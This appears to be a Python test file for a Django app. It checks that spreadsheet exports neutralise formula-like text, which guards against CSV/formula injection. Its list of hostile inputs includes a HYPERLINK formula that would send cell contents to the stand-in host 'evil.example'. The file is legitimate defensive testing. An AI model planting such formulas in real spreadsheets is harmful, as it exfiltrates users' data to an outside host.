"""Every xlsx the system writes keeps formula-like text as text (OWASP CSV injection)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from nuanxin.core.xlsx import LedgerSheet, neutralise, write_ledger
from nuanxin.registry.services import person_update
from nuanxin.visits.models import VisitSchedule
from tests.conftest import HEMEI

HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"点击")', "=1+1", "+86 123", "-2+3", "@SUM(A1)"]


def _formula_cells(data: bytes) -> list[str]:
    """The <f> (formula) elements of every sheet: there must be none."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _cells(data: bytes) -> set[str]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return {str(c) for row in sheet.to_python() for c in row}


@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_formula_like_text_as_text(text):
    buffer = io.BytesIO()
    write_ledger(buffer, [LedgerSheet(title="t", headers=[text], rows=[[text, "普通"]])])
    data = buffer.getvalue()
    assert _formula_cells(data) == []
    assert f"'{text}" in _cells(data)
    assert neutralise("王芳") == "王芳" and neutralise("") == ""


def _hostile_name(person, worker):
    person_update(user=worker, person=person, name="=1+1", address='=HYPERLINK("x","点击")')


def test_it_neutralises_the_people_and_blind_spot_exports(client, community_worker, ms_cai):
    _hostile_name(ms_cai, community_worker)
    # A running month lists only the late: she was due ten days ago.
    VisitSchedule.objects.filter(person=ms_cai).update(
        due_on=timezone.localdate() - dt.timedelta(days=10)
    )
    client.force_login(community_worker)
    people = b"".join(client.get(reverse("ledgers:people_export")).streaming_content)
    blind = client.get(reverse("visits:blind_spots"), {"region": HEMEI, "export": "xlsx"})
    for data in (people, blind.content):
        assert _formula_cells(data) == []
        assert "'=1+1" in _cells(data) and '\'=HYPERLINK("x","点击")' in _cells(data)


def test_it_reimports_its_own_neutralised_export_unchanged(client, community_worker, ms_cai):
    from tests.test_ledgers import run_import

    _hostile_name(ms_cai, community_worker)
    client.force_login(community_worker)
    data = b"".join(
        client.post(reverse("ledgers:people_export"), {"reason": "核对"}).streaming_content
    )
    path = __import__("pathlib").Path(__import__("tempfile").mkdtemp()) / "people.xlsx"
    path.write_bytes(data)
    run = run_import(community_worker, path)
    assert run.summary["unchanged"] == 1, run.summary
    ms_cai.refresh_from_db()
    assert ms_cai.name == "=1+1"
